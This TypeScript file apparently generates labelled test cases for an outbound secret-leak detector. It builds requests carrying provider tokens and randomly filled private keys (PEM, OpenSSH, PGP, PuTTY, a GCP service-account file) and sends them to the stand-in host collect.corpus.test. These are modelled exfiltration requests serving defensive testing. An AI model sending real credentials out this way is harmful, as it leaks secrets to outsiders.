/** Malicious outbound: provider credentials in their documented formats, and private keys. */
import { type Carrier, CARRIERS, place } from "./_carriers.ts";
import { outbound, seq } from "./_case.ts";
import { b64 } from "./_encode.ts";
import { B64, Rng } from "./_rng.ts";
import { TOKEN_FORMATS } from "./_token_formats.ts";
import type { CorpusCase } from "./mod.ts";

/** Carriers that show the key name next to the value (what a keyed format needs). */
const KEYED: readonly Carrier[] = ["env", "json", "yaml", "form", "query", "header_custom"];

/**
 * One case per token format, and a second in another carrier for every third format.
 *
 * @returns The cases (class `token_format`).
 */
export function tokenCases(): CorpusCase[] {
  const cases: CorpusCase[] = [];
  TOKEN_FORMATS.forEach((format, i) => {
    const rng = new Rng(`token:${format.name}`);
    const carriers = format.keyed ? KEYED : CARRIERS;
    const rounds = i % 3 === 0 ? 2 : 1;
    for (let round = 0; round < rounds; round++) {
      const carrier = carriers[(i * 5 + round * 7) % carriers.length]!;
      cases.push(outbound({
        id: `token-${format.name}-${round + 1}`,
        class: "token_format",
        label: "malicious",
        what: `${format.name} in ${carrier}`,
      }, place(carrier, format.make(rng), { key: format.key, rng })));
    }
  });
  return cases;
}

/** PEM label and the first bytes (base64) of a real DER structure of that kind. */
const PEM_KINDS: readonly { label: string; lead: string; bytes: number }[] = [
  { label: "RSA PRIVATE KEY", lead: "MIIEowIBAAKCAQEA", bytes: 1190 },
  { label: "PRIVATE KEY", lead: "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQ", bytes: 1190 },
  { label: "EC PRIVATE KEY", lead: "MHcCAQEEI", bytes: 118 },
  {
    label: "OPENSSH PRIVATE KEY",
    lead: "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW",
    bytes: 380,
  },
  {
    label: "ENCRYPTED PRIVATE KEY",
    lead: "MIIFHDBOBgkqhkiG9w0BBQ0wQTApBgkqhkiG9w0BBQwwHAQI",
    bytes: 1250,
  },
  { label: "DSA PRIVATE KEY", lead: "MIIBuwIBAAKBgQD", bytes: 440 },
];

function pem(rng: Rng, kind: typeof PEM_KINDS[number]): string {
  const body = kind.lead + b64(rng.bytes(kind.bytes)).slice(kind.lead.length);
  const lines = body.match(/.{1,64}/g)!.join("\n");
  return `-----BEGIN ${kind.label}-----\n${lines}\n-----END ${kind.label}-----\n`;
}

/**
 * Private keys: PEM blocks of each kind, a PGP secret key block and a PuTTY key, in files and in
 * JSON (a cloud service-account file with `\n` escapes).
 *
 * @returns The cases (class `private_key`).
 */
export function privateKeyCases(): CorpusCase[] {
  const rng = new Rng("private_key");
  const cases: CorpusCase[] = [];
  const add = (what: string, placed: ReturnType<typeof place>) =>
    cases.push(outbound({
      id: `pkey-${seq(cases.length)}`,
      class: "private_key",
      label: "malicious",
      what,
    }, placed));
  for (const kind of PEM_KINDS) {
    add(`${kind.label} uploaded as a file`, {
      host: "collect.corpus.test",
      request: {
        method: "PUT",
        target: `/v1/files/id_${kind.label.split(" ")[0]!.toLowerCase()}`,
        headers: [],
        contentType: "application/octet-stream",
        body: pem(rng, kind),
      },
    });
    add(
      `${kind.label} in a service-account JSON`,
      place("json", pem(rng, kind), { key: "private_key", rng }),
    );
  }
  const gcp = {
    type: "service_account",
    project_id: "billing-prod-31337",
    private_key_id: rng.hex(40),
    private_key: pem(rng, PEM_KINDS[1]!),
    client_email: "deployer@billing-prod-31337.iam.gserviceaccount.com",
    client_id: rng.digits(21),
  };
  add("GCP service-account key file", {
    host: "collect.corpus.test",
    request: {
      method: "POST",
      target: "/v1/paste",
      headers: [],
      contentType: "application/json",
      body: JSON.stringify(gcp, null, 2),
    },
  });
  add(
    "private key in a multipart upload",
    place("multipart", pem(rng, PEM_KINDS[3]!).replace(/\n/g, "\\n"), {
      key: "SSH_PRIVATE_KEY",
      rng,
    }),
  );
  add("PGP secret key block", {
    host: "collect.corpus.test",
    request: {
      method: "POST",
      target: "/v1/notes",
      headers: [],
      contentType: "text/plain",
      body: "-----BEGIN PGP PRIVATE KEY BLOCK-----\n\nlQOYBGd" +
        b64(rng.bytes(900)).match(/.{1,64}/g)!.join("\n") + "\n=" + rng.str(B64, 4) +
        "\n-----END PGP PRIVATE KEY BLOCK-----\n",
    },
  });
  add("PuTTY private key file", {
    host: "collect.corpus.test",
    request: {
      method: "POST",
      target: "/v1/notes",
      headers: [],
      contentType: "text/plain",
      body: "PuTTY-User-Key-File-3: ssh-ed25519\nEncryption: none\nComment: deploy@ci\n" +
        `Public-Lines: 2\n${b64(rng.bytes(51)).slice(0, 64)}\n${b64(rng.bytes(10))}\n` +
        `Private-Lines: 1\n${b64(rng.bytes(48))}\nPrivate-MAC: ${rng.hex(64)}\n`,
    },
  });
  return cases;
}
